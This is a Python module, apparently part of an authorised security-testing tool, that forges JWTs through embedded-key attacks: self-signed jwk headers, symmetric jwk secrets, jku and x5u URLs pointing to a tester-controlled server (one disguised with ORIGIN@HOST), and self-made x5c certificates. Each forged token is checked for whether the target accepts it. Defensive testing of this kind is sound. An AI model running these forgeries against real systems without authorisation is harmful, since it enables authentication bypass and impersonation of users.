"""Embedded keys: the token's header brings, or points to, the key that it is to be checked with."""

import datetime as dt
from collections.abc import Callable
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from pillion.attack import jose
from pillion.attack.bearing import good_token, refused
from pillion.attack.outcome import Attack, Family, Outcome, through
from pillion.attack.target import Target

_ALG: Final = "RS256"
_JWK: Final = "RFC 7515, section 4.1.3; CVE-2018-0114"
_JKU: Final = "RFC 7515, section 4.1.2; RFC 8725, section 3.10"
_X5U: Final = "RFC 7515, section 4.1.5; RFC 8725, section 3.10"
_X5C: Final = "RFC 7515, section 4.1.6; CWE-295"


def _signed(target: Target, **header: Any) -> str:
    kept = {"typ": jose.header(target.token)["typ"], "alg": _ALG}
    return jose.signed(kept | header, jose.fresh(target.token))


def _own() -> dict[str, str]:
    return jose.public_jwk(jose.own_key(_ALG), kid="attack", alg=_ALG, use="sig")


def _jwk(target: Target) -> str:
    return _signed(target, jwk=_own(), kid="attack")


def _jwk_under_our_kid(target: Target) -> str:
    return _signed(target, jwk=_own() | {"kid": target.key["kid"]}, kid=target.key["kid"])


def _jwk_symmetric(target: Target) -> str:
    secret = b"a secret that the token brings along"
    jwk = {"kty": "oct", "k": jose.encoded(secret), "alg": "HS256"}
    header = {**jose.header(target.token), "alg": "HS256", "jwk": jwk}
    return jose.keyed(header, jose.fresh(target.token), secret)


def _jku(target: Target) -> str:
    return _signed(target, jku=target.bait.serve("/jku.json", {"keys": [_own()]}), kid="attack")


def _jku_that_looks_like_the_origin(target: Target) -> str:
    url = target.bait.serve("/.well-known/jwks.json", {"keys": [_own()]})
    host = target.origin.partition("://")[2]
    return _signed(target, jku=url.replace("://", f"://{host}@"), kid="attack")


def _certificate() -> bytes:
    key = jose.own_key(_ALG)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attack")])
    now = dt.datetime.now(dt.UTC)
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(hours=1))
        .sign(key, hashes.SHA256())
    )
    return made.public_bytes(serialization.Encoding.DER)


def _x5u(target: Target) -> str:
    made = x509.load_der_x509_certificate(_certificate())
    url = target.bait.serve("/x5u.pem", made.public_bytes(serialization.Encoding.PEM))
    return _signed(target, x5u=url, kid="attack")


def _x5c(target: Target) -> str:
    import base64  # noqa: PLC0415 - x5c alone is written in the standard alphabet (section 4.1.6)

    made = _certificate()
    chain = [base64.b64encode(made).decode()]
    return _signed(target, x5c=chain, **{"x5t#S256": jose.thumbprint(made)}, kid="attack")


def _attack(name: str, reference: str, tried: str, forge: Callable[[Target], str]) -> Attack:
    def run(target: Target) -> Outcome:
        before = len(target.bait.asked)
        outcome = refused(target, forge(target))
        fetched = target.bait.asked[before:]
        return through(f"the mesh fetched {fetched[0]} from us; {outcome.answered}") if fetched else outcome

    return Attack(name, reference, tried, run)


FAMILY: Final = Family(
    "embedded keys",
    good_token,
    (
        _attack("jwk", _JWK, "a token with the key that it is signed by", _jwk),
        _attack("jwk under the mesh's kid", _JWK, "the same, named like the mesh's key", _jwk_under_our_kid),
        _attack("jwk with a secret", _JWK, "a token that brings a shared secret along", _jwk_symmetric),
        _attack("jku", _JKU, "a token that says where its key is: at our own server", _jku),
        _attack(
            "jku with the origin in it", _JKU, "the same, as ORIGIN@HOST", _jku_that_looks_like_the_origin
        ),
        _attack("x5u", _X5U, "a token that says where its certificate is: at our own server", _x5u),
        _attack("x5c", _X5C, "a token with a certificate that we made ourselves", _x5c),
    ),
)
